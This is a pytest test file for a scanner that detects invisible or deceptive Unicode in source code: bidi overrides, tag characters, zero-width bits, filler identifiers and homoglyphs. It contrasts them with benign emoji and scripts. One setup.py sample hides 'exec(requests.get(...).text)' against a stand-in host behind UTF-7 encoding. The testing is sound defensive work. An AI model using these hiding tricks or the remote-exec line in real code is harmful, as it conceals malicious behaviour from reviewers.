"""Texts that show their reader something else than the machine; and honest texts of all the world."""

from time import process_time

import pytest

from sekisho.inspection.invisible import hidden
from sekisho.inspection.text import decode
from support.inspection import inspected, lines_of, verdict_by

TABLE = "x = '" + "".join(map(chr, range(0x391, 0x3A0))) + "".join(map(chr, range(0x4E00, 0x4E80))) + "'; "
UNSEEN = {  # text, and whether there is no honest reason for it
    "far to the right": ("x = 1" + " " * 200 + "; y", False),
    "an order that is left open": ("x = 'a\u202e b'", True),
    "an order that is closed, of plain letters": ("x = 'a\u2066 b\u2069'", False),
    "an order closed by another sign": ("x = 'a\u2066 b\u202c'", True),
    "letters as tags": ("x\U000e0072\U000e0075", True),
    "bytes as selectors": ("x = '\ufe01\ufe0f\ufe05\ufe02'", True),
    "bits without width": ("x = '\u200b\u200c\u200b\u200b'", True),
    "bits between letters": ("y = '" + "a\u200b" * 8 + "b'", True),
    "a name that is a filler": ("const { \u3164 } = x", True),
    "fillers that spell something, in a table": (TABLE + "y[\u3164\uffa0\u3164\uffa0]", True),
    "a name with a joiner": ("a\u200db = 1", False),
    "a name of two alphabets": ("sc\u043epe = 1", False),  # a Cyrillic o
}
SEEN = {
    "an emoji of several": "x = '\U0001f468\u200d\U0001f469\u200d\U0001f467'",
    "a mark that an editor doubled": "x = '\ufe0f\ufe0f\u2714\ufe0f'",
    "a heart": "x = '\u2764\ufe0f'",
    "the flag of Scotland": "x = '\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f'",
    "Persian": "x = '\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 \u0645\u06cc\u200c\u0631\u0648\u0645'",
    "Hebrew, isolated": "x = '\u2067\u05e9\u05dc\u05d5\u05dd\u2069'",
    "Japanese, with a variant": "x = '\u845b\U000e0100\u98fe'",
    "Russian": "x = '\u043f\u0440\u0438\u0432\u0435\u0442'  # USB-\u043f\u043e\u0440\u0442",
    "Greek letters of a formula": "\u0394x = \u03bc\u03c3",
    "a mark at the start": "\ufeffx = 1",
    "a table of entities": "x = {" + ", ".join(f"'{c}'" for c in "\u200b\u200c\u200d\u2060" * 4) + "}",
    "a table of Unicode": "x = /[" + "\u0660-\u0669" * 150 + "\u202a-\u202e\u2066-\u2069]/",
    "a table of entities in one text": TABLE + "y = '\u1160e\\xbb'",
    "an order on a line that nobody reads": "x = 1; " * 1_000 + "y = /[\u202d\u202e\u2066]/",
    "a word of another alphabet where a text begins": '"""Called on \u0441hord heads.',
    "a wide table": "x" + "  " * 70 + "y",
}


@pytest.mark.parametrize(("text", "surely"), UNSEEN.values(), ids=UNSEEN.keys())
def test_it_is_told_with_its_line(text: str, surely: bool) -> None:
    assert [(each.line, each.surely) for each in hidden(f"a = 1\n{text}\n")] == [(2, surely)]


@pytest.mark.parametrize("text", SEEN.values(), ids=SEEN.keys())
def test_honest_texts_are_left_alone(text: str) -> None:
    assert hidden(text) == []


def test_a_line_of_blanks_takes_no_time() -> None:
    start = process_time()
    assert hidden("\t" * 100_000 + "\n" + " " * 100_000) == []
    assert process_time() - start < 2


def test_what_is_surely_meant_to_deceive_needs_no_trigger() -> None:
    files = {"src/a/b.py": "x = 'a\u202e b'\n", "src/a/c.py": "x = 1" + " " * 300 + "; y = 2\n"}
    assert lines_of(files, "hidden_text") == {("src/a/b.py", 1)}


def test_text_without_width_counts_in_any_file() -> None:
    assert verdict_by({"package.json": '{"name": "a\u200b\u200c\u200b\u200b"}'}, "hidden_text") == "review"
    assert verdict_by({"README.md": "a\u202e b\n"}, "hidden_text") == ""


def test_lines_within_a_line_of_another_encoding_are_the_files_own() -> None:
    source = b"# coding: utf-7\nimport requests\n# a +AAo-exec(requests.get('https://a.invalid').text)\nx = 1\n"
    assert decode(source, python=True).lines[:5] == (1, 2, 3, 3, 4)
    found = inspected({"setup.py": source})
    assert ("setup.py", 3) in {step.site[:2] for chain in found.chains for step in chain.steps}
    assert {chain.rule for chain in found.chains} >= {"remote_code", "hidden_text"}
